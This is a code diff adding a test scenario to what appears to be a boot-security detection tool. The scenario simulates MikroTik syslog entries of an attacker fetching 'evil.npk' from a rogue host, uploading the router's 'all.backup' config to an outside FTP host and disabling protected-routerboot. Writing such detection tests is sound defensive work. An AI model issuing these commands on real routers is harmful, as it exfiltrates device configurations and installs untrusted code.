@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from bootwarden.scenarios.model import Expect, Notice, scenario
-from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, DHCP_SERVER, HQ, ROGUE
+from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, DHCP_SERVER, HQ, OUTSIDE, ROGUE
 from bootwarden.traffic import images, syslog, telnet, tftp
 from bootwarden.traffic.dhcp import Client
 from bootwarden.traffic.wire import Wire
@@ -63,3 +63,29 @@ def mikrotik_administered(wire: Wire) -> None:
         DHCP_SERVER, [(67, "kernel")], siaddr=BOOT_SERVER
     )
     tftp.read(wire, DEVICE, BOOT_SERVER, "kernel", KERNEL, offer={"blksize": 1452}, client_port=1024)
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    raises=[
+        ("BW07", 1542007309, DEVICE, syslog.COLLECTOR),
+        ("BW18", 1542007340, DEVICE, syslog.COLLECTOR),
+        ("BW27", 1542007350, DEVICE, syslog.COLLECTOR),
+    ],
+    plain=Expect((Notice("Config_Exfiltration", DEVICE, OUTSIDE, "all.backup"),)),
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Boot_Command", DEVICE, ROGUE, "evil.npk"),
+            Notice("Config_Exfiltration", DEVICE, OUTSIDE, "all.backup"),
+            Notice("Boot_Integrity_Lowered", DEVICE),
+        )
+    ),
+)
+def mikrotik_logged(wire: Wire) -> None:
+    """What is clicked in WinBox is seen only in the router's log: a file fetched, one sent away, a guard taken off."""
+    by = f"by tcp-msg(winbox):admin@{ATTACKER}"
+    logged(wire, f"fetch executed {by} (/tool fetch url=tftp://{ROGUE}/evil.npk)")
+    logged(wire, f"fetch executed {by} (/tool fetch upload=yes src-path=all.backup url=ftp://{OUTSIDE}/all.backup)")
+    logged(wire, f"settings changed {by} (/system routerboard settings set protected-routerboot=disabled)")
